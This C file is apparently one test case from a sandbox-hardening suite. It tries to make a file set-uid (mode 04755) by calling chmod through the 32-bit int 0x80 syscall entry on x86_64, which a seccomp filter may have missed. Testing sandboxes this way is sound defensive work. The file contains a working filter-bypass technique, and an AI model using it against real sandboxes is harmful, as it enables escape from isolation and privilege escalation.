/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Tries to: leave a set-uid program in a folder that it may write to, by a system call
 *           of 32 bit programs, which a filter may have forgotten
 * Promise:  host-writes
 * Oracle:   files
 * Options:  --workspace {base}/ws --writable {base}/ws/out
 * Stops:    EPERM=seccomp ENOSYS=seccomp seccomp=seccomp
 */
#include <sys/mman.h>
#include <sys/stat.h>

#include "attacks/attack.h"

#define CHMOD_32 15
#define PATH "out/old.txt"

#ifndef MAP_32BIT
#define MAP_32BIT 0
#endif

/* As a 32 bit program would call it. Other machines have no such second door. */
static long chmod_32(const char *path, mode_t mode)
{
	long r;

#ifdef __x86_64__
	__asm__ volatile("int $0x80"
	                 : "=a"(r)
	                 : "a"(CHMOD_32), "b"(path), "c"((long)mode)
	                 : "memory", "r8", "r9", "r10", "r11");
#else
	r = chmod(path, mode) < 0 ? -errno : 0;
#endif
	return r;
}

ATTACK(chmod_by_a_32_bit_call)
{
	/* Only the lower half of an address gets there. */
	char *path = mmap(NULL, 4096, PROT_READ | PROT_WRITE,
	                  MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
	long r;

	if (path == MAP_FAILED)
		return 1;
	memcpy(path, PATH, sizeof(PATH));
	r = chmod_32(path, 04755);
	errno = (int)-r;
	if (r < 0)
		attack_stopped("chmod");
	return 0;
}
